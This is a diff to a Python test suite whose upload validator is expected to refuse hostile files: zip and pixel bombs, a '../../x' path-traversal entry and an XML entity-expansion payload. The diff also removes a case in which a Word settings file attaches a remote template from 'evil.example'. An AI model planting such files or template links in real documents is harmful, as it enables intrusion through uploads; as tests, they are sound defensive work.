@@ -78,6 +78,7 @@ REFUSED: dict[str, dict[str, Callable[[], bytes]]] = {
         "pdf without pages": lambda: samples.pdf(0),
         "word without its end": lambda: samples.docx()[:-30],
         "word without its list of types": lambda: samples.zipped({"word/document.xml": "<w/>"}),
+        "word of broken markup": lambda: samples.docx(word__document_dot_xml="<w:document>"),
         "zip that lies about its size": samples.lying_zip,
     },
     "files.image_too_large": {"900 million pixels": samples.pixel_bomb},
@@ -95,10 +96,6 @@ REFUSED: dict[str, dict[str, Callable[[], bytes]]] = {
         "zip bomb by entries": lambda: samples.docx(**{f"word__m{n}_dot_xml": b"" for n in range(2001)}),
         "path out of the archive": lambda: samples.zipped({"../../x": "", "word/document.xml": ""}),
         "entity expansion": lambda: samples.docx(word__x_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
-        "template from outside": lambda: samples.docx(
-            word___rels__settings_dot_xml_dot_rels='<Relationship Type="http://x/attachedTemplate"'
-            ' Target="http://evil.example/t.dotm" TargetMode="External"/>'
-        ),
     },
 }
 
@@ -113,11 +110,6 @@ def test_refuses_with_words_and_stores_nothing(code: str, case: str, stored_keys
     assert "请" in refusal.value.title  # says what to do
     assert not StoredFile.objects.exists()
     assert stored_keys == []
-
-
-def test_link_outward_in_a_document_is_no_danger() -> None:
-    link = '<Relationship Type="http://x/hyperlink" Target="https://gov.example" TargetMode="External"/>'
-    assert take(samples.docx(word___rels__document_dot_xml_dot_rels=link)).pk
 
 
 def test_what_the_place_does_not_allow_is_refused_with_what_it_does() -> None:
